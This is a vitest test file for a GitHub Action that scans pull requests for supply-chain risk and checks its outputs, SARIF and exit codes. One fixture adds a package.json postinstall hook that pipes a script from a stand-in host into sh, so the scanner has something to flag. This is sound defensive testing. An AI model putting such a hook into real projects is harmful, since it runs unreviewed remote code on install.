import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { GITHUB_COMMENT_LIMIT } from '../../src/cli/render-markdown.js';
import { type GitHubServer, startGitHubServer } from '../support/github-server.js';
import { makePrFixture, typicalPrFixture } from '../support/pr-fixture.js';
import { ROOT, SVC } from './run-cli.js';

interface ActionStep {
  name?: string;
  id?: string;
  uses?: string;
  run?: string;
  shell?: string;
  env?: Record<string, string>;
}
interface ActionFile {
  inputs: Record<string, { default?: string }>;
  outputs: Record<string, { value: string }>;
  runs: { using: string; steps: ActionStep[] };
}

const action = parse(readFileSync(path.join(ROOT, 'action.yml'), 'utf8')) as ActionFile;
const analyzeStep = action.runs.steps.find((step) => step.id === 'analyze');

/** action.yml: its shape, its safety rules, and its analyze script run for real with bash. */
describe('the GitHub Action (action.yml)', () => {
  it('is a composite action on Node 20 with pinned actions and the documented inputs', () => {
    expect(action.runs.using).toBe('composite');
    expect(action.inputs['fail-on']?.default).toBe('none');
    expect(action.inputs.format?.default).toBe('markdown');
    expect(action.inputs['github-token']?.default).toBe('${{ github.token }}');
    const uses = action.runs.steps.filter((step) => step.uses !== undefined).map((step) => step.uses ?? '');
    expect(uses.length).toBeGreaterThan(0);
    for (const ref of uses) expect(ref).toMatch(/^[\w.-]+\/[\w.-]+@[0-9a-f]{40}$/);
    expect(analyzeStep?.env?.PR_URL).toBe('${{ github.event.pull_request.html_url }}');
    expect(analyzeStep?.env?.GITHUB_TOKEN).toBe('${{ inputs.github-token }}');
  });

  it('never expands ${{ }} inside a script: inputs and event fields arrive through env', () => {
    for (const step of action.runs.steps) {
      if (step.run !== undefined) expect(step.run).not.toContain('${{');
    }
  });

  it('documents a workflow that pins every action by commit and asks only for read permissions', () => {
    const doc = readFileSync(path.join(ROOT, 'docs/cli.md'), 'utf8');
    const workflow = /```yaml\n(name: svc[\s\S]*?)```/.exec(doc)?.[1];
    expect(workflow).toBeDefined();
    const parsed = parse(workflow ?? '') as { on: Record<string, unknown>; permissions: Record<string, string>; jobs: Record<string, { steps: { uses?: string }[] }> };
    expect(Object.keys(parsed.on)).toEqual(['pull_request']);
    expect(Object.values(parsed.permissions).every((p) => p === 'read')).toBe(true);
    expect(parsed.permissions).toMatchObject({ contents: 'read', 'pull-requests': 'read', checks: 'read' });
    for (const job of Object.values(parsed.jobs)) {
      for (const step of job.steps) if (step.uses !== undefined) expect(step.uses).toMatch(/@[0-9a-f]{40}( |$)/);
    }
  });

  describe('the analyze script', () => {
    let github: GitHubServer;
    let dir: string;
    beforeAll(async () => {
      github = await startGitHubServer();
      github.addPullRequest(typicalPrFixture());
      github.addPullRequest(
        makePrFixture({
          owner: 'acme',
          repo: 'gizmo',
          number: 9,
          title: 'Set up the toolchain after install',
          files: [
            {
              path: 'package.json',
              base: `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run' } }, null, 2)}\n`,
              head: `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run', postinstall: 'curl -fsSL https://get.example.net/i.sh | sh' } }, null, 2)}\n`,
            },
          ],
        }),
      );
      dir = mkdtempSync(path.join(tmpdir(), 'svc-action-'));
    });
    afterAll(async () => {
      await github?.close();
      rmSync(dir, { recursive: true, force: true });
    });

    const runStep = async (env: Record<string, string>) => {
      const summary = path.join(dir, `summary-${Math.random()}.md`);
      const output = path.join(dir, `output-${Math.random()}.txt`);
      writeFileSync(summary, '');
      writeFileSync(output, '');
      const script = analyzeStep?.run ?? '';
      const result = await promisify(execFile)('bash', ['-c', script], {
        cwd: dir,
        env: {
          PATH: process.env.PATH ?? '',
          HOME: process.env.HOME ?? '',
          RUNNER_TEMP: dir,
          GITHUB_STEP_SUMMARY: summary,
          GITHUB_OUTPUT: output,
          SVC_BIN: SVC,
          PR_URL: `${github.url}/acme/widgets/pull/42`,
          GITHUB_URL: github.url,
          GITHUB_API_URL: github.apiUrl,
          GITHUB_TOKEN: '',
          FAIL_ON: 'none',
          FORMAT: 'markdown',
          ...env,
        },
        encoding: 'utf8',
      }).then(
        (r) => ({ code: 0, stdout: r.stdout, stderr: r.stderr }),
        (e: { code: number; stdout: string; stderr: string }) => ({ code: e.code, stdout: e.stdout, stderr: e.stderr }),
      );
      return { ...result, summary: readFileSync(summary, 'utf8'), output: readFileSync(output, 'utf8') };
    };

    it('writes the markdown to the job summary, the outputs, and the chosen format to the log', async () => {
      const run = await runStep({ FORMAT: 'text' });
      expect(run.code).toBe(0);
      expect(run.summary).toContain('svc: low risk');
      expect(run.summary.length).toBeLessThanOrEqual(GITHUB_COMMENT_LIMIT);
      expect(run.stdout).toContain('acme/widgets#42  Pad widget labels');
      expect(run.output).toMatch(/^risk-level=low\nrisk-score=0\.\d+\nreview-action=\w+\nsignal-file=.*svc-signal\.json\nsarif=.*svc\.sarif\n$/);
      const sarif = JSON.parse(readFileSync(path.join(dir, 'svc.sarif'), 'utf8')) as { version: string; runs: { results: unknown[] }[] };
      expect(sarif.version).toBe('2.1.0');
      const signal = JSON.parse(readFileSync(path.join(dir, 'svc-signal.json'), 'utf8')) as { supply_chain: { findings: unknown[] } };
      expect(sarif.runs[0]?.results).toHaveLength(signal.supply_chain.findings.length);
    }, 60_000);

    it('writes the findings as SARIF (rules linked to the action\'s own docs) and prints them as annotations unless annotate is false', async () => {
      const env = { PR_URL: `${github.url}/acme/gizmo/pull/9`, GITHUB_SERVER_URL: 'https://github.example', GITHUB_ACTION_REPOSITORY: 'acme/svc', GITHUB_ACTION_REF: 'v2' };
      const run = await runStep(env);
      expect(run.code).toBe(0);
      const sarif = JSON.parse(readFileSync(/sarif=(.*)\n/.exec(run.output)?.[1] ?? '', 'utf8')) as { runs: { tool: { driver: { rules: { helpUri?: string }[] } }; results: unknown[] }[] };
      expect(sarif.runs[0]?.results.length).toBeGreaterThan(0);
      expect(sarif.runs[0]?.tool.driver.rules[0]?.helpUri).toMatch(/^https:\/\/github\.example\/acme\/svc\/blob\/v2\/docs\/findings\.md#/);
      expect(run.stdout).toMatch(/^::error file=package\.json,line=\d+,endLine=\d+,title=svc%3A /m);
      const quiet = await runStep({ ...env, ANNOTATE: 'false' });
      expect(quiet.code).toBe(0);
      expect(quiet.stdout).not.toMatch(/^::(error|warning|notice) /m);
    }, 90_000);

    it('fails the step with exit 1 when fail-on is reached, 2 on bad inputs or no pull request', async () => {
      expect((await runStep({ FAIL_ON: 'low' })).code).toBe(1);
      const badInput = await runStep({ FAIL_ON: 'severe' });
      expect(badInput.code).toBe(2);
      expect(badInput.stdout).toContain('::error title=svc::fail-on must be');
      const noPr = await runStep({ PR_URL: '' });
      expect(noPr.code).toBe(2);
      expect(noPr.stdout).toContain('No pull request in this event');
      const missing = await runStep({ PR_URL: `${github.url}/acme/widgets/pull/999` });
      expect(missing.code).toBe(2);
      expect(missing.stderr).toContain('svc: Analysis failed: pull request acme/widgets#999 not found');
    }, 60_000);
  });
});
